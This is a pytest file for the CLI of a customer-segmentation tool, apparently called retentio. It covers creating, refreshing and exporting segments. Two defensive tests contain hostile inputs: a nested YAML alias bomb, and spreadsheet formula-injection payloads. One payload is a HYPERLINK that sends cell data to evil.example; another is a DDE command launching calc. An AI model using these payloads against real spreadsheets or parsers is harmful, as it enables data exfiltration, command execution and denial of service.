"""Custom segments through the CLI, as an operator types the commands."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import orjson
import pytest
from sqlalchemy import Engine
from tests.conftest import NOW
from tests.helpers import event, ingest
from typer.testing import CliRunner, Result

from retentio.cli import app
from retentio.customers.models import CustomerUpsert
from retentio.customers.service import do_upsert_customer

runner = CliRunner()
AS_OF = ["--as-of", NOW.isoformat()]
RULE_YAML = """\
description: Смотрели кофе трижды за неделю и ничего не заказали за 30 дней
rule:
  all:
    - event:
        type: product_viewed
        where: [{property: category, op: "=", value: coffee}]
        window: {days: 7}
        count: {">=": 3}
    - event: {type: order_placed, window: {days: 30}, count: {"=": 0}}
"""


@pytest.fixture
def env(database_url: str) -> dict[str, str]:
    return {"RETENTIO_DATABASE_URL": database_url}


@pytest.fixture
def viewers(engine: Engine) -> None:
    """anna viewed coffee three times this week, boris twice."""
    with engine.begin() as connection:
        do_upsert_customer(
            connection, "anna", CustomerUpsert(email="anna@example.ru", first_name="Анна"), NOW
        )
    views = [
        event(f"{who}{n}", "product_viewed", NOW - timedelta(days=n), who, sku="C1", category="coffee")
        for who, times in (("anna", 3), ("boris", 2))
        for n in range(times)
    ]
    ingest(engine, views, NOW)


def _rule_file(tmp_path: Path, text: str, name: str = "rule.yaml") -> str:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def _create(env: dict[str, str], tmp_path: Path) -> None:
    result = runner.invoke(
        app,
        [*AS_OF, "segments", "create", "coffee_lapsing", "--rule", _rule_file(tmp_path, RULE_YAML)],
        env=env,
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "created segment coffee_lapsing: 1 customers"


@pytest.mark.usefixtures("viewers")
def test_create_show_list_and_export(env: dict[str, str], tmp_path: Path) -> None:
    # when
    _create(env, tmp_path)
    shown = runner.invoke(app, ["segments", "show", "coffee_lapsing", "--json"], env=env)
    listed = runner.invoke(app, ["segments", "list"], env=env)
    exported = runner.invoke(
        app, ["segments", "export", "coffee_lapsing", str(tmp_path / "out.csv")], env=env
    )
    # then
    document = orjson.loads(shown.stdout)
    assert document["name"] == "coffee_lapsing"
    assert document["description"].startswith("Смотрели кофе")
    assert document["size"] == 1
    assert document["rule"]["all"][1] == {
        "event": {"type": "order_placed", "window": {"days": 30}, "count": {"=": 0}}
    }
    assert [(p["source"], p["size"], p["entered"]) for p in document["sizes"]] == [("refresh", 1, 1)]
    assert listed.stdout.split()[:2] == ["coffee_lapsing", "1"]
    assert exported.exit_code == 0, exported.output
    with (tmp_path / "out.csv").open(encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["customer_id", "email", "phone", "first_name", "last_name", "entered_at"],
        ["anna", "anna@example.ru", "", "Анна", "", NOW.isoformat()],
    ]


@pytest.mark.usefixtures("viewers")
def test_refresh_moves_customers_as_time_passes(env: dict[str, str], tmp_path: Path) -> None:
    _create(env, tmp_path)
    later = (NOW + timedelta(days=6)).isoformat()
    result = runner.invoke(app, ["--as-of", later, "segments", "refresh", "--custom-only"], env=env)
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "coffee_lapsing: 0 customers (+0 entered, -1 exited)"


def test_an_invalid_rule_is_refused_with_the_path_of_the_mistake(env: dict[str, str], tmp_path: Path) -> None:
    # given a rule whose second event condition has no window
    broken = RULE_YAML.replace("window: {days: 30}, ", "")
    # when
    result = runner.invoke(app, ["segments", "create", "x", "--rule", _rule_file(tmp_path, broken)], env=env)
    # then
    assert result.exit_code == 2
    assert "rule.all[1].event.window: required" in result.stderr
    assert runner.invoke(app, ["segments", "list", "--json"], env=env).stdout.strip() == "[]"


def test_a_json_rule_file_works_too(env: dict[str, str], tmp_path: Path) -> None:
    path = _rule_file(tmp_path, '{"field": "profile.orders", "op": ">=", "value": 1}', "rule.json")
    result = runner.invoke(app, ["segments", "create", "buyers", "--rule", path], env=env)
    assert result.exit_code == 0, result.output


def test_unknown_segments_are_clear_errors(env: dict[str, str], tmp_path: Path) -> None:
    assert runner.invoke(app, ["segments", "show", "nope"], env=env).exit_code == 1
    assert runner.invoke(app, ["segments", "refresh", "nope"], env=env).exit_code == 1
    result = runner.invoke(app, ["segments", "export", "nope", str(tmp_path / "x.csv")], env=env)
    assert (result.exit_code, result.stderr.strip()) == (1, "error: no segment named 'nope'")
    assert not (tmp_path / "x.csv").exists()


def test_a_rule_file_with_yaml_aliases_is_refused_and_nothing_stored(
    env: dict[str, str], tmp_path: Path
) -> None:
    # given: nested aliases that would expand to 9**9 items
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [
        f"{name}: &{name} [{','.join(['*' + previous] * 9)}]"
        for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    path = _rule_file(tmp_path, "\n".join(lines) + "\n")
    # when
    result = runner.invoke(app, ["segments", "create", "laughs", "--rule", path], env=env)
    # then
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        "error: the rule is refused:",
        "  rule: YAML anchors and aliases (&name, *name) are not allowed in a rule file;"
        " found &a at line 1, column 4",
    ]
    assert runner.invoke(app, ["segments", "list", "--json"], env=env).stdout.strip() == "[]"


def _export(env: dict[str, str], file: Path, *options: str) -> Result:
    return runner.invoke(app, ["segments", "export", "coffee_lapsing", str(file), *options], env=env)


@pytest.mark.usefixtures("viewers")
def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    env: dict[str, str], engine: Engine, tmp_path: Path
) -> None:
    # given: anna's own names are formulas; her phone is a plain number
    upsert = CustomerUpsert(
        first_name='=HYPERLINK("http://evil.example/?"&A2,"Анна")',
        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        phone="+7 999 123-45-67",
    )
    with engine.begin() as connection:
        do_upsert_customer(connection, "anna", upsert, NOW)
    _create(env, tmp_path)
    # when
    result = _export(env, tmp_path / "out.csv")
    # then
    assert result.exit_code == 0, result.output
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == [
        "anna",
        "anna@example.ru",
        "+79991234567",
        """'=HYPERLINK("http://evil.example/?"&A2,"Анна")""",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        NOW.isoformat(),
    ]


@pytest.mark.usefixtures("viewers")
def test_export_into_a_missing_folder_is_a_clear_error(env: dict[str, str], tmp_path: Path) -> None:
    _create(env, tmp_path)
    target = tmp_path / "missing" / "out.csv"
    result = _export(env, target)
    assert (result.exit_code, result.stderr.strip()) == (
        2,
        f"error: cannot write {target}: the folder {target.parent} does not exist",
    )
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not target.parent.exists()


@pytest.mark.usefixtures("viewers")
def test_export_keeps_an_existing_file_unless_forced(env: dict[str, str], tmp_path: Path) -> None:
    # given
    _create(env, tmp_path)
    target = tmp_path / "out.csv"
    target.write_text("last week's list\n", encoding="utf-8")
    # when
    refused = _export(env, target)
    # then
    assert (refused.exit_code, refused.stderr.strip()) == (
        2,
        f"error: {target} exists already; pass --force to replace it",
    )
    assert target.read_text(encoding="utf-8") == "last week's list\n"
    # when forced
    forced = _export(env, target, "--force")
    # then
    assert forced.exit_code == 0, forced.output
    assert target.read_text(encoding="utf-8").splitlines()[1].startswith("anna,anna@example.ru,")
